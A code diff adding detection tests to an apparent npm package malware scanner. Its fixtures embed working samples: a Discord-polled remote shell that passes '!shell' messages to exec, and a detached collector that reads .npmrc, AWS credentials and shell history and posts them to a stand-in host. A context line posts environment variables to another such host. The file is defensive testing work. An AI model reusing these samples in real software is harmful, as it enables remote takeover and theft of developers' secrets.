@@ -803,6 +803,54 @@ export function Widget() { return null; }
   });
 });
 
+describe('remote command channels', () => {
+  it('text fetched through a local request helper and handed to a shell is a remote shell; a fetched program run from its file is an installer', () => {
+    const c2 = `const https = require('https');
+const { exec } = require('child_process');
+function api(method, p) {
+  return new Promise((resolve) => {
+    const req = https.request({ host: 'discord.com', path: '/api/v10' + p, method }, (res) => { let s = ''; res.on('data', (c) => (s += c)); res.on('end', () => resolve(JSON.parse(s))); });
+    req.end();
+  });
+}
+async function poll() {
+  const msgs = await api('GET', '/channels/1266104512938762311/messages');
+  for (const m of msgs) { const t = String(m.content); if (t.startsWith('!shell ')) exec(t.slice(7)); }
+}
+poll();
+`;
+    const r = scan({ 'index.js': c2 }, { main: 'index.js' });
+    const found = r.findings.find((f) => f.detector === 'remote-code');
+    expect(found?.message ?? JSON.stringify(found?.data)).toMatch(/api\(\)/);
+    expect(found!.weight).toBeGreaterThanOrEqual(45);
+    const installer = scan({ 'install.js': "const https = require('https');\nconst fs = require('fs');\nconst { execFileSync } = require('child_process');\nfunction get(u) { return new Promise((ok) => https.get(u, (r) => { const f = fs.createWriteStream('bin/tool'); r.pipe(f); f.on('finish', ok); })); }\nget('https://github.com/o/tool/releases/download/v1/tool').then(() => execFileSync('bin/tool', ['--version']));\n" }, { scripts: { postinstall: 'node install.js' } });
+    expect(installer.findings.filter((f) => f.detector === 'remote-code').every((f) => f.weight < 45)).toBe(true);
+  });
+});
+
+describe('credential harvests through helpers', () => {
+  const collector = (files: string) => `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
+const H = os.homedir();
+const rd = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return undefined; } };
+const loot = { host: os.hostname(), files: { ${files} } };
+const body = JSON.stringify(loot);
+https.request({ host: 'audit.vault-telemetry.io', path: '/v1', method: 'POST' }).end(body);
+`;
+  const launcher = "#!/usr/bin/env node\nconst path = require('path');\nconst { spawn } = require('child_process');\nspawn(process.execPath, [path.join(__dirname, 'collect.js')], { detached: true, stdio: 'ignore' }).unref();\nrequire('./cli.js');\n";
+
+  it('files read through a local helper are sources; a bin that starts a detached collector of three stores of secrets is high', () => {
+    const many = scan({ 'bin/pwv.js': launcher, 'bin/cli.js': 'module.exports = {};\n', 'bin/collect.js': collector("npmrc: rd(path.join(H, '.npmrc')), aws: rd(path.join(H, '.aws', 'credentials')), hist: rd(path.join(H, '.bash_history'))") }, { bin: { pwv: 'bin/pwv.js' } });
+    const flow = many.findings.find((f) => f.messageId === 'flow');
+    expect(flow?.evidence).toMatchObject({ stores: expect.arrayContaining(['npm token file (.npmrc)', 'AWS credentials']) });
+    expect(flow?.data).toMatchObject({ reach: 'in a function of an entry file' });
+    expect(many.level).toMatch(/high|critical/);
+    // One store, the tool's own: no harvest.
+    const one = scan({ 'bin/pwv.js': launcher, 'bin/cli.js': 'module.exports = {};\n', 'bin/collect.js': collector("npmrc: rd(path.join(H, '.npmrc'))") }, { bin: { pwv: 'bin/pwv.js' } });
+    expect(one.findings.find((f) => f.messageId === 'flow')?.evidence).not.toHaveProperty('stores');
+    expect(one.level).not.toMatch(/high|critical/);
+  });
+});
+
 describe('exports called at load', () => {
   const usage = "const https = require('https');\nfunction usage(hre) {\n  const body = JSON.stringify({ root: hre.root, e: process.env });\n  https.request({ host: 'metrics.plugin-stats.io', path: '/v1', method: 'POST' }).end(body);\n}\nmodule.exports = { usage };\n";
 
